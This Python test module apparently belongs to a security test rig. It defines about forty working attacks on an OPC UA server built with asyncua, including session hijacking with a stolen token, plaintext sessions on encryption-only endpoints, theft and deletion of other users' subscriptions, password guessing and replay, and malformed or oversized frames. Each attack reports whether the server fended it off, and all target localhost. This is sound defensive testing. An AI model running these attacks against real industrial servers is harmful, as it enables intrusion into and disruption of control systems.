"""Attacks on a server. Each tells whether it succeeded; none knows which kind of server it meets."""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Any

from asyncua import ua
from asyncua.common.events import Event
from asyncua.crypto import security_policies, uacrypto
from asyncua.ua.ua_binary import struct_to_binary, uatcp_to_binary
from secure_rig import CLIENT_URI, PASSWORDS, Card, RigClient, card, connected, server_card
from served import Target

from tests.patience import PATIENCE

Attack = Callable[[Target], Awaitable[bool]]
REFUSED = (ua.UaError, ConnectionError, TimeoutError, OSError)


def stranger() -> Card:
    """Return an untrusted certificate that claims the trusted client's URI."""
    return card("stranger", CLIENT_URI)


async def opens(client: RigClient, *, activate: bool = True) -> bool:
    """Whether the client gets as far as a session."""
    try:
        await client.connect_socket()
        await client.send_hello()
        await client.open_secure_channel()
        await client.create_session()
        if activate:
            await client._activate_with_credentials()
            await client.get_node(ua.ObjectIds.Server_ServerStatus_State).read_value()
    except REFUSED:
        return False
    finally:
        with suppress(*REFUSED):
            await client._close_session_quiet()
        client.disconnect_socket()
        if client._renew_channel_task is not None:
            client._renew_channel_task.cancel()
    return True


class _OtherCertificate(RigClient):
    """Names another certificate in CreateSession than the channel has."""

    named: bytes | None = None

    async def create_session(self) -> Any:
        whole = self.uaclient.create_session

        async def forged(params: ua.CreateSessionParameters) -> Any:
            params.ClientCertificate = self.named
            return await whole(params)

        self.uaclient.create_session = forged
        return await super().create_session()


async def empty_certificate_field(target: Target) -> bool:
    """1a: an untrusted certificate, not mentioned again when the session is created."""
    client = _OtherCertificate(target.url, stranger())
    client.set_user("otto")
    client.set_password(PASSWORDS["otto"][1])
    return await opens(client)


async def other_certificate_named(target: Target) -> bool:
    """1b: an untrusted certificate, and a trusted one named when the session is created."""
    client = _OtherCertificate(target.url, stranger())
    client.named = card().der
    client.set_user("otto")
    client.set_password(PASSWORDS["otto"][1])
    return await opens(client)


async def no_channel_at_all(target: Target) -> bool:
    """Messages in plain text without ever opening a channel, on a server that offers encryption only."""
    reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
    try:
        hello = ua.Hello(ReceiveBufferSize=65_535, SendBufferSize=65_535, EndpointUrl=target.url)
        writer.write(uatcp_to_binary(ua.MessageType.Hello, hello))
        await asyncio.wait_for(reader.read(100), PATIENCE)
        request = ua.CreateSessionRequest()
        request.Parameters.EndpointUrl = target.url
        request.Parameters.ClientNonce = bytes(32)
        request.Parameters.RequestedSessionTimeout = 10_000.0
        body = struct.pack("<III", 0, 1, 1) + struct_to_binary(request)  # token, sequence, request
        writer.write(b"MSGF" + struct.pack("<II", 12 + len(body), 0) + body)
        answer = await asyncio.wait_for(reader.read(8000), PATIENCE)
        wanted = struct_to_binary(ua.CreateSessionResponse())[:4]
    except REFUSED:
        return False
    finally:
        writer.close()
    return wanted in answer


async def plain_channel(target: Target) -> bool:
    """A session in plain text on a server that offers no such endpoint."""
    client = RigClient(target.url)

    async def without_endpoint() -> None:
        params = ua.CreateSessionParameters(
            EndpointUrl=target.url, ClientNonce=bytes(32), RequestedSessionTimeout=10_000.0, SessionName="plain"
        )
        await client.uaclient.create_session(params)

    client.create_session = without_endpoint
    return await opens(client, activate=False)


async def any_password(target: Target) -> bool:
    """2: the name "admin" with any password may do anything."""
    client = RigClient(target.url, card())
    client.set_user("admin")
    client.set_password("whatever it is")
    return await opens(client)


async def anonymous_write(target: Target) -> bool:
    """2: a client without a user name writes a variable."""
    try:
        async with connected(target.url, None) as client:
            await client.get_node(target.node("loose")).write_value(7.0)
    except REFUSED:
        return False
    return True


async def no_security_endpoint(target: Target) -> bool:
    """3: an endpoint without security is offered."""
    client = RigClient(target.url)
    endpoints = await client.connect_and_get_server_endpoints()
    return any(endpoint.SecurityMode != ua.MessageSecurityMode.SignAndEncrypt for endpoint in endpoints)


async def tokens_can_be_guessed(target: Target) -> bool:
    """4: the secret of the next session follows from that of the last."""
    tokens = []
    for _ in range(2):
        async with connected(target.url, "otto") as client:
            tokens.append(client.uaclient.protocol.authentication_token.Identifier)
    return all(isinstance(token, int) for token in tokens) and tokens[1] - tokens[0] < 5


async def session_over_plain_channel(target: Target) -> bool:
    """4: a client without security takes over a session that was opened on an encrypted channel."""
    async with connected(target.url, "otto") as owner:
        thief = RigClient(target.url)
        try:
            await thief.connect_socket()
            await thief.send_hello()
            await thief.open_secure_channel()
            thief.uaclient.protocol.authentication_token = owner.uaclient.protocol.authentication_token
            params = ua.ActivateSessionParameters(UserIdentityToken=ua.AnonymousIdentityToken(PolicyId="anonymous"))
            await thief.uaclient.activate_session(params)
            await thief.uaclient.read(ua.ReadParameters(NodesToRead=[value_of(ua.NodeId(2256))]))
        except REFUSED:
            return False
        finally:
            thief.disconnect_socket()
    return True


def value_of(node: ua.NodeId) -> ua.ReadValueId:
    return ua.ReadValueId(NodeId=node, AttributeId=ua.AttributeIds.Value)


async def token_of_another(target: Target) -> bool:
    """Requests on one's own connection with another client's secret, or none at all."""
    async with connected(target.url, "olga") as client:
        client.uaclient.protocol.authentication_token = ua.NodeId(1, 0)
        try:
            await client.uaclient.read(ua.ReadParameters(NodesToRead=[value_of(ua.NodeId(2256))]))
        except REFUSED:
            return False
        return True


class Watcher:
    """Gathers what a subscription tells."""

    def __init__(self) -> None:
        self.values: list[Any] = []
        self.raw: list[ua.DataValue] = []
        self.events: list[Any] = []

    def datachange_notification(self, _node: Any, value: Any, data: Any) -> None:
        self.values.append(value)
        self.raw.append(data.monitored_item.Value)

    def event_notification(self, event: Any) -> None:
        self.events.append(event)


async def _subscribed(client: RigClient, target: Target, watcher: Watcher) -> Any:
    subscription = await client.create_subscription(100, watcher)
    await subscription.subscribe_data_change(client.get_node(target.node("count")))
    await until(lambda: bool(watcher.values))
    return subscription


async def until(condition: Callable[[], bool], seconds: float = PATIENCE) -> bool:
    for _ in range(int(seconds * 50)):
        if condition():
            return True
        await asyncio.sleep(0.02)
    return condition()


def patience(target: Target) -> float:
    """How long (s) to wait for the event that fends an attack off: the gateway sends it, plain asyncua never does."""
    return 1.0 if target.rig is None else PATIENCE


async def delete_anothers_subscription(target: Target) -> bool:
    """5: another user ends my subscription."""
    async with connected(target.url, "otto") as owner, connected(target.url, "olga") as thief:
        subscription = await _subscribed(owner, target, Watcher())
        results = await thief.uaclient.delete_subscriptions([subscription.subscription_id])
        return bool(results[0].is_good())


async def steal_subscription(target: Target) -> bool:
    """5: another user has my subscription's values sent to itself."""
    async with connected(target.url, "otto") as owner, connected(target.url, "olga") as thief:
        subscription = await _subscribed(owner, target, Watcher())
        params = ua.TransferSubscriptionsParameters(SubscriptionIds=[subscription.subscription_id])
        results = await thief.uaclient.transfer_subscriptions(params)
        return bool(results[0].StatusCode.is_good())


async def silence_subscription(target: Target) -> bool:
    """Another user switches my subscription off."""
    async with connected(target.url, "otto") as owner, connected(target.url, "olga") as thief:
        subscription = await _subscribed(owner, target, Watcher())
        params = ua.SetPublishingModeParameters(PublishingEnabled=False, SubscriptionIds=[subscription.subscription_id])
        results = await thief.uaclient.set_publishing_mode(params)
        return bool(results[0].is_good())


async def add_to_anothers_subscription(target: Target) -> bool:
    """Another user adds an item to my subscription."""
    async with connected(target.url, "otto") as owner, connected(target.url, "olga") as thief:
        subscription = await _subscribed(owner, target, Watcher())
        item = ua.MonitoredItemCreateRequest(ItemToMonitor=value_of(target.node("axes")))
        params = ua.CreateMonitoredItemsParameters(SubscriptionId=subscription.subscription_id, ItemsToCreate=[item])
        try:
            results = await thief.uaclient.create_monitored_items(params)
        except REFUSED:
            return False
        return bool(results[0].StatusCode.is_good())


async def remove_from_anothers_subscription(target: Target) -> bool:
    """Another user removes an item of my subscription."""
    async with connected(target.url, "otto") as owner, connected(target.url, "olga") as thief:
        subscription = await owner.create_subscription(100, Watcher())
        handle = await subscription.subscribe_data_change(owner.get_node(target.node("count")))
        params = ua.DeleteMonitoredItemsParameters(
            SubscriptionId=subscription.subscription_id, MonitoredItemIds=[handle]
        )
        try:
            results = await thief.uaclient.delete_monitored_items(params)
        except REFUSED:
            return False
        return bool(results[0].is_good())


async def change_anothers_subscription(target: Target) -> bool:
    """Another user changes my subscription's interval."""
    async with connected(target.url, "otto") as owner, connected(target.url, "olga") as thief:
        subscription = await _subscribed(owner, target, Watcher())
        params = ua.ModifySubscriptionParameters(
            SubscriptionId=subscription.subscription_id, RequestedPublishingInterval=60_000.0
        )
        try:
            await thief.uaclient.update_subscription(params)
        except REFUSED:
            return False
        return True


async def read_anothers_messages(target: Target) -> bool:
    """Another user has the values that were sent to me repeated to itself."""
    async with connected(target.url, "otto") as owner, connected(target.url, "olga") as thief:
        owner.uaclient._publish_acks = False
        subscription = await _subscribed(owner, target, Watcher())
        for number in range(1, 4):
            request = ua.RepublishRequest()
            request.Parameters.SubscriptionId = subscription.subscription_id
            request.Parameters.RetransmitSequenceNumber = number
            try:
                body = await thief.uaclient.protocol.send_request(request)
                response = ua.ua_binary.struct_from_binary(ua.RepublishResponse, body)
            except REFUSED:
                continue
            if response.NotificationMessage.NotificationData or response.ResponseHeader.ServiceResult.is_good():
                return True
        return False


async def subscription_numbers_can_be_guessed(target: Target) -> bool:
    """5: the number of the next subscription follows from the last."""
    async with connected(target.url, "otto") as client:
        numbers = [(await client.create_subscription(100, Watcher())).subscription_id for _ in range(2)]
    return bool(numbers[1] == numbers[0] + 1)


async def guess_passwords(target: Target) -> bool:
    """6: after many wrong passwords the right one is still taken at once."""
    for number in range(6):
        client = RigClient(target.url, card())
        client.set_user("gina")
        client.set_password(f"guess {number}")
        assert not await opens(client)
    client = RigClient(target.url, card())
    client.set_user("gina")
    client.set_password(PASSWORDS["gina"][1])
    return await opens(client)


async def slow_method_blocks(target: Target) -> bool:
    """7: while a method of mine runs, my reads wait."""
    async with connected(target.url, "otto") as client:
        ended: list[str] = []

        async def call() -> None:
            await client.get_node(target.node("machine")).call_method(target.node("slow"))
            ended.append("call")

        async def read() -> None:
            await asyncio.sleep(0.05)
            await client.get_node(target.node("count")).read_value()
            ended.append("read")

        await asyncio.gather(call(), read())
        return ended[0] == "call"


class _ForgedPassword(RigClient):
    """Sends its password in another way than it should."""

    def forge(self, password: bytes) -> tuple[bytes, str | None]:
        raise NotImplementedError

    def _add_user_auth(self, params: Any, username: Any, password: Any) -> None:
        data, algorithm = self.forge(password.encode())
        params.UserIdentityToken = ua.UserNameIdentityToken(
            PolicyId="username", UserName=username, Password=data, EncryptionAlgorithm=algorithm
        )


class _OldNonce(_ForgedPassword):
    def forge(self, password: bytes) -> tuple[bytes, str | None]:
        secret = struct.pack("<I", len(password) + 32) + password + bytes(32)
        encrypted = uacrypto.encrypt_rsa_oaep(server_card().certificate.public_key(), secret)
        return encrypted, "http://www.w3.org/2001/04/xmlenc#rsa-oaep"


class _Rsa15(_ForgedPassword):
    def forge(self, password: bytes) -> tuple[bytes, str | None]:
        secret = struct.pack("<I", len(password) + 32) + password + (self._server_nonce or b"")
        encrypted = uacrypto.encrypt_rsa15(server_card().certificate.public_key(), secret)
        return encrypted, "http://www.w3.org/2001/04/xmlenc#rsa-1_5"


class _PlainText(_ForgedPassword):
    def forge(self, password: bytes) -> tuple[bytes, str | None]:
        return password, None


async def _forged_password(target: Target, kind: type[_ForgedPassword]) -> bool:
    client = kind(target.url, card())
    client.set_user("otto")
    client.set_password(PASSWORDS["otto"][1])
    return await opens(client)


async def replayed_password(target: Target) -> bool:
    """8: an encrypted password that was made for another session."""
    return await _forged_password(target, _OldNonce)


async def weakly_encrypted_password(target: Target) -> bool:
    """8: RSA with PKCS 1 v1.5."""
    return await _forged_password(target, _Rsa15)


async def plain_password(target: Target) -> bool:
    """8: a password in plain text inside the channel."""
    return await _forged_password(target, _PlainText)


async def _stays_open(target: Target, *messages: bytes) -> bool:
    """Whether the server keeps the connection after these bytes."""
    reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
    try:
        for message in messages:
            writer.write(message)
        while await asyncio.wait_for(reader.read(1000), patience(target)):
            pass
    except TimeoutError:
        return True
    except ConnectionError:
        return False
    finally:
        writer.close()
    return False


async def broken_channel_stays(target: Target) -> bool:
    """9: a channel that cannot be opened leaves its socket behind."""
    hello = uatcp_to_binary(
        ua.MessageType.Hello, ua.Hello(ReceiveBufferSize=65_535, SendBufferSize=65_535, EndpointUrl=target.url)
    )
    uri = security_policies.SecurityPolicyBasic256Sha256.URI.encode()
    body = struct.pack("<I", len(uri)) + uri + struct.pack("<i", 8) + b"\x30\x82\x00\x04abcd" + struct.pack("<i", -1)
    broken = b"OPNF" + struct.pack("<II", 12 + len(body) + 64, 0) + body + bytes(64)
    return await _stays_open(target, hello, broken)


async def huge_frame(target: Target) -> bool:
    """A frame of 4 GiB is announced, and the server begins to wait for it."""
    return await _stays_open(target, b"HELF" + struct.pack("<I", 0xFFFF_FFF0) + bytes(1000))


async def _call(target: Target, user: str, name: str, *arguments: ua.Variant) -> ua.CallMethodResult:
    async with connected(target.url, user) as client:
        request = ua.CallMethodRequest(
            ObjectId=target.node("machine"), MethodId=target.node(name), InputArguments=list(arguments)
        )
        return (await client.uaclient.call([request]))[0]


async def wrong_argument_type(target: Target) -> bool:
    """Text where a number belongs reaches the method."""
    before = len(target.calls)
    await _call(target, "otto", "move", ua.Variant([1.0, 2.0, 3.0]), ua.Variant("fast"))
    return len(target.calls) > before


async def unregistered_method(target: Target) -> bool:
    """A method that is not meant for the network is executed."""
    before = len(target.calls)
    await _call(target, "anna", "forgotten")
    return len(target.calls) > before


async def observer_commands(target: Target) -> bool:
    """A user who may only watch moves the machine."""
    before = len(target.calls)
    await _call(target, "olga", "move", ua.Variant([1.0, 2.0, 3.0]), ua.Variant(1.0))
    return len(target.calls) > before


async def observer_writes(target: Target) -> bool:
    """A user who may only watch writes."""
    async with connected(target.url, "olga") as client:
        try:
            await client.get_node(target.node("loose")).write_value(9.0)
        except REFUSED:
            return False
        return True


async def unbounded_browse(target: Target) -> bool:
    """The number of references that the client can take is ignored."""
    async with connected(target.url, "olga") as client:
        description = ua.BrowseDescription(NodeId=target.node("machine"), ResultMask=63)
        params = ua.BrowseParameters(RequestedMaxReferencesPerNode=1, NodesToBrowse=[description])
        return len((await client.uaclient.browse(params))[0].References) > 1


async def slow_drift_unseen(target: Target) -> bool:
    """A value drifts far beyond the deadband in small steps, and no subscriber is notified."""
    node = target.node("loose")
    await _write(target, node, 0.0)
    async with connected(target.url, "olga") as client:
        watcher = Watcher()
        subscription = await client.create_subscription(100, watcher)
        request = ua.MonitoredItemCreateRequest(
            ItemToMonitor=value_of(node), MonitoringMode=ua.MonitoringMode.Reporting
        )
        request.RequestedParameters.ClientHandle = 1
        request.RequestedParameters.QueueSize = 100
        request.RequestedParameters.Filter = ua.DataChangeFilter(
            Trigger=ua.DataChangeTrigger.StatusValue,
            DeadbandType=ua.DeadbandType.Absolute,
            DeadbandValue=1.0,
        )
        subscription._monitored_items = {}
        await subscription.create_monitored_items([request])
        sub = target.server.iserver.subscription_service.subscriptions[subscription.subscription_id]
        for step in range(1, 31):
            await _write(target, node, step * 0.5)
        queued = [note.Value.Value.Value for queue in list(sub._triggered_datachanges.values()) for note in queue]
        return not await until(lambda: max([*watcher.values, *queued, 0.0]) > 10.0, patience(target))


async def _write(target: Target, node: ua.NodeId, value: float) -> None:
    write = target.server.write_attribute_value(node, ua.DataValue(ua.Variant(value, ua.VariantType.Double)))
    await asyncio.wrap_future(asyncio.run_coroutine_threadsafe(write, target.loop))


async def poisoned_event_filter(target: Target) -> bool:
    """One subscriber's filter keeps events from all others."""
    async with connected(target.url, "olga") as evil, connected(target.url, "otto") as good:
        poison = ua.SimpleAttributeOperand(
            TypeDefinitionId=ua.NodeId(ua.ObjectIds.BaseEventType),
            BrowsePath=[ua.QualifiedName("data_types")],
            AttributeId=ua.AttributeIds.Value,
        )
        await _watch_events(evil, ua.EventFilter(SelectClauses=[poison]))
        watcher = Watcher()
        subscription = await good.create_subscription(100, watcher)
        await subscription.subscribe_events()
        event = Event()
        event.add_property("EventType", ua.NodeId(ua.ObjectIds.BaseEventType), ua.VariantType.NodeId)
        event.add_property("Message", ua.LocalizedText("hello"), ua.VariantType.LocalizedText)
        work = target.server.iserver.subscription_service.trigger_event(event)
        with suppress(KeyError):
            await asyncio.wrap_future(asyncio.run_coroutine_threadsafe(work, target.loop))
        return not await until(lambda: bool(watcher.events), patience(target))


async def _watch_events(client: RigClient, event_filter: Any) -> ua.StatusCode:
    made = await client.uaclient.create_subscription(
        ua.CreateSubscriptionParameters(RequestedPublishingInterval=100.0, RequestedLifetimeCount=1000), lambda _: None
    )
    target = ua.ReadValueId(NodeId=ua.NodeId(ua.ObjectIds.Server), AttributeId=ua.AttributeIds.EventNotifier)
    item = ua.MonitoredItemCreateRequest(ItemToMonitor=target, MonitoringMode=ua.MonitoringMode.Reporting)
    item.RequestedParameters.Filter = event_filter
    params = ua.CreateMonitoredItemsParameters(SubscriptionId=made.SubscriptionId, ItemsToCreate=[item])
    return (await client.uaclient.create_monitored_items(params))[0].StatusCode


async def pile_up_sessions(target: Target) -> bool:
    """One connection makes sessions without end."""
    client = RigClient(target.url, card())
    await client.connect_socket()
    await client.send_hello()
    await client.open_secure_channel()
    before = len(target.server.iserver._external_sessions)
    try:
        for _ in range(20):
            await client.create_session()
        return len(target.server.iserver._external_sessions) - before >= 20
    finally:
        client.disconnect_socket()
        if client._renew_channel_task is not None:
            client._renew_channel_task.cancel()


async def register_a_server(target: Target) -> bool:
    """A client without a session puts its own address into the list of servers."""
    client = RigClient(target.url, card())
    try:
        await client.connect_socket()
        await client.send_hello()
        await client.open_secure_channel()
        await client.uaclient.register_server(
            ua.RegisteredServer(ServerUri="urn:evil", ServerNames=[ua.LocalizedText("evil")], IsOnline=True)
        )
    except REFUSED:
        return False
    finally:
        client.disconnect_socket()
    return True


async def range_ignored(target: Target) -> bool:
    """Part of an array is asked for, the whole comes."""
    async with connected(target.url, "olga") as client:
        item = value_of(target.node("axes"))
        item.IndexRange = "1:2"
        value = (await client.uaclient.read(ua.ReadParameters(NodesToRead=[item])))[0]
        return value.Value.Value != [2.0, 3.0]


async def restless_subscription(target: Target) -> bool:
    """A subscription that publishes without any pause."""
    async with connected(target.url, "olga") as client:
        made = await client.uaclient.create_subscription(
            ua.CreateSubscriptionParameters(RequestedPublishingInterval=0.0, RequestedLifetimeCount=1000),
            lambda _: None,
        )
        return bool(made.RevisedPublishingInterval < 50.0)


async def add_a_node(target: Target) -> bool:
    """The name "admin" changes the address space."""
    client = RigClient(target.url, card())
    client.set_user("admin")
    client.set_password("whatever it is")
    try:
        await client.connect()
    except REFUSED:
        return False
    try:
        await client.nodes.objects.add_object(ua.NodeId("evil", target.space), "evil")
    except REFUSED:
        return False
    finally:
        await client.disconnect()
    return True


CAREFUL: tuple[Attack, ...] = (
    empty_certificate_field,
    other_certificate_named,
    no_channel_at_all,
    plain_channel,
    tokens_can_be_guessed,
    token_of_another,
    delete_anothers_subscription,
    steal_subscription,
    silence_subscription,
    add_to_anothers_subscription,
    remove_from_anothers_subscription,
    change_anothers_subscription,
    read_anothers_messages,
    subscription_numbers_can_be_guessed,
    guess_passwords,
    slow_method_blocks,
    replayed_password,
    weakly_encrypted_password,
    plain_password,
    broken_channel_stays,
    huge_frame,
    wrong_argument_type,
    unregistered_method,
    observer_commands,
    observer_writes,
    unbounded_browse,
    slow_drift_unseen,
    poisoned_event_filter,
    pile_up_sessions,
    register_a_server,
    range_ignored,
    restless_subscription,
)
"""Attacks that a careful user of plain asyncua cannot fend off."""

DEFAULTS: tuple[Attack, ...] = (
    any_password,
    anonymous_write,
    no_security_endpoint,
    session_over_plain_channel,
    add_a_node,
)
"""Attacks on plain asyncua as it comes."""
